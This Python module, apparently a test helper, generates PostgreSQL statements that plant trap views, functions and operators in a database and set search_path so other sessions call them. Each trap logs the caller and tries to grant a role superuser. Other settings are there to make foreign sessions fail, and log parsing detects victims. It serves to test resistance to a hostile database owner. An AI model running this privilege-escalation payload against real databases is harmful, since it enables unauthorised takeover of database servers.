# Copyright (c) parallel.worktrees contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a task can plant in a database that it owns, so that others' sessions run its functions, or fail."""

from __future__ import annotations

import re
import typing as t

from psycopg2.extensions import make_dsn

LURES = {"search_path": "public, pg_catalog"}
"""Settings by which other statements find what is planted."""

OBSTACLES = {
    "role": "{role}",
    "local_preload_libraries": "no_such_library",
    "statement_timeout": "1",
    "lock_timeout": "1",
    "idle_in_transaction_session_timeout": "1",
    "default_transaction_read_only": "on",
    "default_transaction_isolation": "serializable",
    "default_transaction_deferrable": "on",
    "row_security": "off",
    "client_encoding": "LATIN1",
    "standard_conforming_strings": "off",
    "transform_null_equals": "on",
    "datestyle": "German",
}
"""Settings by which they fail."""

SETTINGS = {"lures": LURES, "obstacles": LURES | OBSTACLES}

RELATIONS = """
pg_available_extensions pg_available_extension_versions pg_class pg_database pg_db_role_setting pg_depend
pg_event_trigger pg_extension pg_namespace pg_prepared_xacts pg_proc pg_replication_slots pg_roles pg_settings
pg_shdepend pg_stat_activity pg_subscription pg_tables pg_tablespace pg_type
""".split()

FUNCTIONS = {
    "current_database()": "name",
    "current_setting(text)": "text",
    "current_setting(text, bool)": "text",
    "pg_advisory_lock(int, int)": "void",
    "pg_backend_pid()": "int",
    "pg_database_size(name)": "bigint",
    "pg_get_userbyid(oid)": "name",
    "pg_has_role(oid, text)": "bool",
    "pg_size_pretty(bigint)": "text",
    "pg_terminate_backend(int)": "bool",
    "shobj_description(oid, name)": "text",
    "starts_with(text, text)": "bool",
}

OPERATORS = [
    (operator, kind)
    for operator in ("=", "<>", "~", "!~", ">=", ">", "-", "||")
    for kind in ("name", "text", "oid", "int", "bigint", "bool")
]


def trap(role: str) -> str:
    """A function that leaves a line in the server's log, and tries to make a role superuser."""
    return (
        "create function public.trap() returns bool language plpgsql as $$ begin"
        " raise log 'TRAP % % %', session_user, current_user, pg_catalog.current_setting('application_name');"
        f' begin alter role "{role}" superuser; exception when others then null; end; return true; end $$'
    )


def planted(role: str, database: str, settings: t.Mapping[str, str]) -> str:
    """The statements by which the owner of a database plants all of it there, the settings last."""
    lines = [trap(role)]
    lines += [
        f"create view public.{name} as select * from pg_catalog.{name} where public.trap(); "
        f"grant select on public.{name} to public"
        for name in RELATIONS
    ]
    for signature, kind in FUNCTIONS.items():
        value = "" if kind == "void" else f" null::pg_catalog.{kind}"
        lines.append(
            f"create function public.{signature} returns {kind} language plpgsql as"
            f" $$ begin perform public.trap(); return{value}; end $$"
        )
    for number, (operator, kind) in enumerate(OPERATORS):
        lines += [
            (
                f"create function public.trap_{number}({kind}, {kind}) returns bool language plpgsql as"
                f" $$ begin return public.trap(); end $$"
            ),
            f"create operator public.{operator} (leftarg = {kind}, rightarg = {kind}, function = public.trap_{number})",
        ]
    for name, value in settings.items():
        is_list = name in ("search_path", "datestyle")
        text = value.format(role=role)
        lines.append(f"""alter database "{database}" set {name} = {text if is_list else f"'{text}'"}""")
    return ";\n".join(lines)


def free_of_settings() -> str:
    """The ``options`` of a session of the test's own in such a database."""
    free = "role=none local_preload_libraries= statement_timeout=0 default_transaction_read_only=off".split()
    return " ".join(f"-c {one}" for one in (*free, "search_path=pg_catalog"))


def dsn(**where: t.Any) -> str:
    """The parameters of such a session."""
    return make_dsn(**where, options=free_of_settings())


def sprung(log: str, *own: str) -> list[str]:
    """Who ran into a trap, by the server's log: the session's user, the current one, the name of the application.

    :arg own: users, or applications, of the task itself, which may.
    """
    return [line for line in re.findall(r"LOG:  TRAP (.*)", log) if not {*own}.intersection(line.split(" "))]
